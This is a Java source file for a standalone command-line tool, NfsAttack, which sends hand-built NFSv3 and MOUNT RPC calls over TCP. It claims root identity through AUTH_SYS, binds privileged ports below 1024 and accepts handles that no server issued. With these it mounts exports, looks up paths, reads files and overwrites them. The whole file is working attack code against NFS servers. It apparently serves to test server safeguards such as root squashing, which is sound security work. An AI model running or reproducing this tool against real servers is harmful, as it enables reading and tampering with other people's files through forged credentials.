package org.qrm.plugin.nfs.internal;

import java.io.ByteArrayOutputStream;
import java.io.Closeable;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;

/**
 * What root on a machine can say to an NFS server (RFC 1813, version 3 over TCP, AUTH_SYS of root, privileged ports), also
 * with handles that no server gave out. A program of one file: it runs where the machine is.
 *
 * <pre>
 * java NfsAttack.java SERVER mount EXPORT                  prints the handle
 * java NfsAttack.java SERVER lookup HANDLE NAME…           prints the handle of what is there
 * java NfsAttack.java SERVER read HANDLE                   prints the file
 * java NfsAttack.java SERVER user-read HANDLE              the same, from a port that any user of a machine has
 * java NfsAttack.java SERVER write HANDLE TEXT             overwrites the file's beginning
 * </pre>
 *
 * The server's refusal is printed as {@code status N}, with exit status 1.
 */
public final class NfsAttack {

    private static final int PORTMAP = 100000;
    private static final int NFS = 100003;
    private static final int MOUNT = 100005;

    private final String server;
    private boolean privileged = true;

    private NfsAttack(String server) {
        this.server = server;
    }

    public static void main(String[] words) throws IOException {
        try {
            System.out.println(new NfsAttack(words[0]).act(words));
        } catch (Refused refused) {
            System.out.println(refused.getMessage());
            System.exit(1);
        }
    }

    private String act(String... words) throws IOException {
        switch (words[1]) {
            case "mount":
                return hex(mount(words[2]));
            case "lookup":
                byte[] handle = bytes(words[2]);
                for (int i = 3; i < words.length; i++) {
                    handle = lookup(handle, words[i]);
                }
                return hex(handle);
            case "read":
                return read(bytes(words[2]));
            case "user-read":
                privileged = false;
                return read(bytes(words[2]));
            default:
                write(bytes(words[2]), words[3]);
                return "written";
        }
    }

    private byte[] mount(String export) throws IOException {
        int port;
        try (Call call = new Call(111, PORTMAP, 2, 3)) {
            call.out.writeInt(MOUNT);
            call.out.writeInt(3);
            call.out.writeInt(6); // TCP
            call.out.writeInt(0);
            port = call.answer().readInt();
        }
        try (Call call = new Call(port, MOUNT, 3, 1)) {
            call.opaque(export.getBytes(StandardCharsets.UTF_8));
            return opaque(call.successful());
        }
    }

    private byte[] lookup(byte[] directory, String name) throws IOException {
        try (Call call = new Call(2049, NFS, 3, 3)) {
            call.opaque(directory);
            call.opaque(name.getBytes(StandardCharsets.UTF_8));
            return opaque(call.successful());
        }
    }

    private String read(byte[] file) throws IOException {
        try (Call call = new Call(2049, NFS, 3, 6)) {
            call.opaque(file);
            call.out.writeLong(0);
            call.out.writeInt(4096);
            DataInputStream in = call.successful();
            if (in.readInt() == 1) {
                in.skipNBytes(84); // fattr3
            }
            in.readLong(); // count, eof
            return new String(opaque(in), StandardCharsets.UTF_8);
        }
    }

    private void write(byte[] file, String text) throws IOException {
        byte[] data = text.getBytes(StandardCharsets.UTF_8);
        try (Call call = new Call(2049, NFS, 3, 7)) {
            call.opaque(file);
            call.out.writeLong(0);
            call.out.writeInt(data.length);
            call.out.writeInt(2); // FILE_SYNC
            call.opaque(data);
            call.successful();
        }
    }

    private static byte[] opaque(DataInputStream in) throws IOException {
        byte[] data = new byte[in.readInt()];
        in.readFully(data);
        in.skipNBytes((4 - data.length % 4) % 4);
        return data;
    }

    private static byte[] bytes(String hex) {
        return HexFormat.of().parseHex(hex);
    }

    private static String hex(byte[] bytes) {
        return HexFormat.of().formatHex(bytes);
    }

    /** The server says no. */
    private static final class Refused extends IOException {
        private static final long serialVersionUID = 1;

        Refused(int status) {
            super("status " + status);
        }
    }

    /** One call of a procedure (RFC 5531), on a connection of its own. */
    private final class Call implements Closeable {
        private final Socket socket = new Socket();
        private final ByteArrayOutputStream text = new ByteArrayOutputStream();
        final DataOutputStream out = new DataOutputStream(text);

        Call(int port, int program, int version, int procedure) throws IOException {
            connect(port);
            for (int each : new int[] {1, 0, 2, program, version, procedure, 1, 24, 0, 4}) {
                out.writeInt(each);
            }
            out.writeBytes("qrm_");
            for (int each : new int[] {0, 0, 0, 0, 0}) { // root, of the group root, of no other; no verifier
                out.writeInt(each);
            }
        }

        private void connect(int port) throws IOException {
            if (privileged) {
                bindBelow1024();
            }
            socket.setSoTimeout(20_000);
            socket.setSoLinger(true, 0); // so that the port is free for the next
            socket.connect(new InetSocketAddress(server, port), 20_000);
        }

        private void bindBelow1024() throws IOException {
            socket.setReuseAddress(true);
            for (int local = 1023; ; local--) {
                try {
                    socket.bind(new InetSocketAddress((InetAddress) null, local));
                    return;
                } catch (IOException taken) {
                    if (local == 600) {
                        throw taken;
                    }
                }
            }
        }

        void opaque(byte[] data) throws IOException {
            out.writeInt(data.length);
            out.write(data);
            out.write(new byte[(4 - data.length % 4) % 4]);
        }

        DataInputStream answer() throws IOException {
            DataOutputStream to = new DataOutputStream(socket.getOutputStream());
            to.writeInt(0x80000000 | text.size());
            text.writeTo(to);
            to.flush();
            DataInputStream in = new DataInputStream(socket.getInputStream());
            byte[] reply = new byte[in.readInt() & 0x7fffffff];
            in.readFully(reply);
            DataInputStream read = new DataInputStream(new java.io.ByteArrayInputStream(reply));
            read.readLong(); // number of the call, reply
            if (read.readInt() != 0) {
                throw new Refused(-1);
            }
            read.readInt();
            NfsAttack.opaque(read); // verifier
            int accepted = read.readInt();
            if (accepted != 0) {
                throw new Refused(-accepted);
            }
            return read;
        }

        /** What follows the status of success. */
        DataInputStream successful() throws IOException {
            DataInputStream in = answer();
            int status = in.readInt();
            if (status != 0) {
                throw new Refused(status);
            }
            return in;
        }

        @Override
        public void close() throws IOException {
            socket.close();
        }
    }
}
